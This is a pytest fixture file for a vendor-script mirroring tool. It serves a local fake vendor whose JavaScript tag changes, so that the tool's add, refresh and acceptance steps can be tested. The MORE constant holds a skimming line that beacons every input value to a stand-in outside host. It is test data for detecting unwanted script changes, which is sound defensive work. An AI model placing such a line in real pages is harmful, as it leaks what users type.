"""A vendor on loopback whose script changes, and a mirror of it."""

import os
import threading
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import pytest

from scriptward.app.mirroring import taking
from scriptward.app.mirroring.shelf import Mirrored, Shelf, version_of

FIRST = b"/*! tag v1 (c) Acme, MIT */ document.documentElement.dataset.acme = '1';\n"
SAME = b"/*! tag v2 (c) Acme, MIT */ document.documentElement.dataset.acme = '2';\n"
MORE = FIRST + (
    b"addEventListener('input', (e) => navigator.sendBeacon("
    b"'https://in.other-vendor.example/b', e.target.value));\n"
)


class Vendor:
    """What the vendor serves now."""

    def __init__(self):
        self.code = FIRST
        self.kind = "text/javascript"
        self.to = ""
        vendor = self

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self):
                moved = vendor.to and self.path != vendor.to
                self.send_response(302 if moved else 200)
                if moved:
                    self.send_header("Location", vendor.to)
                self.send_header("Content-Type", vendor.kind)
                self.end_headers()
                self.wfile.write(b"" if moved else vendor.code)

            def log_message(self, *_):
                pass

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.url = f"http://127.0.0.1:{self.server.server_port}/tag.js"
        threading.Thread(target=self.server.serve_forever, daemon=True).start()


@pytest.fixture(scope="session")
def vendor():
    made = Vendor()
    yield made
    made.server.shutdown()
    made.server.server_close()


@pytest.fixture(scope="session")
def life(vendor, browser_path, tmp_path_factory):
    """A script's life in a mirror: `{step: what came of it}`, and the mirror."""
    sandbox = ("--no-sandbox",) if os.geteuid() == 0 else ()
    given: taking.Options = {
        "browser": str(browser_path),
        "browser_args": sandbox,
        "personas": ("default",),
    }
    shelf = Shelf(tmp_path_factory.mktemp("mirror"))
    vendor.to = "/elsewhere/tag.js"
    steps = {"added": taking.add(shelf, vendor.url, accept="wanted", **given)}
    name = steps["added"].name
    steps["unchanged"] = taking.refresh(shelf, name, **given)
    vendor.code = MORE
    steps["more"] = taking.refresh(shelf, name, **given)
    refused = sorted(path.name for path in (shelf.folder / name).iterdir())
    steps["accepted"] = taking.refresh(shelf, name, accept="asked Acme, 17 Nov", **given)
    vendor.code = SAME
    steps["same"] = taking.refresh(shelf, name, **given)
    return shelf, name, steps, refused


@pytest.fixture
def shelf(tmp_path):
    """A mirror of two versions, made without a network."""
    made = Shelf(tmp_path / "vendor")
    versions = tuple(
        version_of(code, taken_at="2026-11-25T10:00:00+00:00") for code in (FIRST, SAME)
    )
    for code in (FIRST, SAME):
        made.keep(code, "acme-tag")
    one = Mirrored(
        name="acme-tag",
        url="https://cdn.acme.test/tag.js",
        current=versions[1].sha256,
        versions=versions,
    )
    made.put(one)
    return made
